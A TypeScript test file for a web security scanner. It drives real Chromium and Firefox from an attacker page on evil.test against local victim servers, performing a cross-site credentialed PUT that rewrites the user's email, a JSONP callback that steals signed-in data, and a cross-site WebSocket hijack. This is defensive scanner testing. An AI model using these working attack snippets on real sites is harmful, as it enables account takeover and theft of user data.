/**
 * The attacks behind the scanner's newer classes, done by real browsers: an attacker page on
 * `http://evil.test:<port>` (mapped to loopback) against fleet servers on 127.0.0.1, in Chromium 156
 * and in Firefox ESR 153. Each case shows the page really changing state or really reading what the
 * server answers, and the scanner reporting that class on that server; the correct twin shows the
 * attack failing. The origin-trust classes are shown in browser.test.ts.
 *
 * Cookies: the victim is signed in (session cookie on 127.0.0.1). Chromium 156 here does NOT send it
 * on these cross-site requests (third-party cookies blocked; the last test pins that), so its pages
 * read the signed-out answer. Firefox runs with third-party cookies allowed (cookieBehavior 0, see
 * attacks-kit.ts), so its pages read the signed-in answer: what an attacker gets from any browser
 * that sends third-party cookies (docs/scan.md says so per class).
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { scan } from '../../src/scan/index.js';
import type { BrowserName } from '../browsers/harness/types.js';
import { describeWithBrowser } from '../browsers/harness/vitest.js';
import {
  type AttackBrowser,
  type Attacked,
  launchAttackBrowser,
  startVictims,
  type Victims,
} from './attacks-kit.js';
import { SITE } from './fleet.js';

const SIGNED_OUT = '{"user":null}';
const SIGNED_IN = '{"user":"alice","email":"alice@victim.test"}';

/** What each browser sends cross-site: the cookie (Firefox here) or not (Chromium 156). */
const SENDS_COOKIE: Record<BrowserName, boolean> = { chromium: false, firefox: true };

for (const browser of ['chromium', 'firefox'] as const) {
  describeWithBrowser(browser, `attacks in real ${browser}`, () => attackSuite(browser));
}

function attackSuite(browser: BrowserName): void {
  let v: Victims;
  let b: AttackBrowser;
  const cookie = SENDS_COOKIE[browser];
  const answer = cookie ? SIGNED_IN : SIGNED_OUT;
  const url = (n: Attacked) => v.servers[n].url;

  beforeAll(async () => {
    v = await startVictims();
    b = await launchAttackBrowser(browser, v);
  }, 120_000);

  afterAll(async () => {
    await b?.close();
    await v?.close();
  });

  async function classes(name: Attacked): Promise<string[]> {
    const r = await scan(url(name), { origin: SITE, cookie: 'session=s3cret' });
    return r.targets[0]?.findings.map((f) => `${f.class} ${f.severity}`) ?? [];
  }

  it('preflight-only trust: the credentialed PUT reaches the server, though the page cannot read the answer', async () => {
    expect(await classes('preflight-only-trust')).toEqual(['preflight-only-trust high']);
    const put = async (u: string) =>
      fetch(u, {
        method: 'PUT',
        credentials: 'include',
        headers: { 'content-type': 'application/json' },
        body: '{"email":"attacker@evil.test"}',
      }).then(
        () => 'read',
        () => 'blocked',
      );
    for (const name of ['preflight-only-trust', 'preflight-same-allowlist'] as const) {
      const s = v.seen[name];
      s.length = 0;
      expect(await b.onEvil(put, url(name))).toBe('blocked');
      const actual = `PUT ${cookie ? 'cookie' : 'no-cookie'}`;
      expect(s, name).toEqual(
        name === 'preflight-only-trust' ? ['OPTIONS no-cookie', actual] : ['OPTIONS no-cookie'],
      );
    }
  });

  it('JSONP as browsers run it: text/html and application/json without nosniff run as script and the page reads the data; with nosniff they do not', async () => {
    expect(await classes('jsonp-text-html')).toEqual(['jsonp high']);
    expect(await classes('jsonp-signed-in-only')).toEqual(['jsonp high']);
    expect(await classes('jsonp-nosniff-json')).toEqual(['jsonp info']);
    const steal = ({ u, param }: { u: string; param: string }) =>
      new Promise<string>((resolve) => {
        const w = window as unknown as Record<string, (d: unknown) => void>;
        w.steal = (d) => resolve(JSON.stringify(d));
        const s = document.createElement('script');
        s.src = `${u}?${param}=steal`;
        s.onerror = () => resolve('error');
        s.onload = () => setTimeout(() => resolve('did not run'), 200);
        document.head.append(s);
      });
    // The callback ran: the page holds the server's data (signed in where the cookie goes along).
    expect(await b.onEvil(steal, { u: url('jsonp-text-html'), param: 'jsoncallback' })).toBe(answer);
    // Wrapped only for signed-in users: with the cookie the page reads the user's data; without
    // it plain JSON comes back, which is not script (ORB blocks it, or it fails to run).
    const signedInOnly = await b.onEvil(steal, { u: url('jsonp-signed-in-only'), param: 'cb' });
    if (cookie) expect(signedInOnly).toBe(SIGNED_IN);
    else expect(signedInOnly).toBe('error');
    // nosniff + application/json: the browser refuses to run it.
    expect(await b.onEvil(steal, { u: url('jsonp-nosniff-json'), param: 'callback' })).not.toContain('user');
  });

  it('cross-site WebSocket hijacking: the page on evil.test opens the socket as the user and reads its message', async () => {
    expect(await classes('websocket-any-origin')).toEqual(['websocket-hijacking medium']);
    expect(await classes('websocket-origin-checked')).toEqual([]);
    const open = (u: string) =>
      new Promise<string>((resolve) => {
        const ws = new WebSocket(u.replace(/^http/, 'ws'));
        ws.onmessage = (e) => resolve(String(e.data));
        ws.onerror = () => resolve('refused');
      });
    expect(await b.onEvil(open, url('websocket-any-origin'))).toBe(answer);
    expect(await b.onEvil(open, url('websocket-origin-checked'))).toBe('refused');
  });

  it(`${browser} here ${cookie ? 'sends' : 'sends no'} third-party cookie: the credentialed cross-site read gets the signed-${cookie ? 'in' : 'out'} answer`, async () => {
    const read = (u: string) => fetch(u, { credentials: 'include' }).then((r) => r.text());
    const s = v.seen['cors-origin-true'];
    s.length = 0;
    expect(await b.onEvil(read, url('cors-origin-true'))).toBe(answer);
    expect(s).toEqual([`GET ${cookie ? 'cookie' : 'no-cookie'}`]);
    // The cookie is there: a top-level visit sends it.
    expect(await b.visit(url('cors-origin-true'))).toContain('alice@victim.test');
  });
}
